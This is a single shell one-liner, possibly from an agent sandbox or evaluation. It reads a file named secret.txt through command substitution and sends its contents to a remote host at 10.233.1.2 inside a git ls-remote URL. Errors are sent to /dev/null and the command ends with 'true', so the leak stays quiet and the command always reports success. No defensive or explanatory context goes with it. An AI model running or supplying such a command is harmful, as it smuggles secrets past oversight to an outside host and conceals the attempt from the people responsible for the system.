git ls-remote "http://10.233.1.2/U19-$(cat /srv/rt/s/d1/home/secret.txt)" 2>/dev/null; true
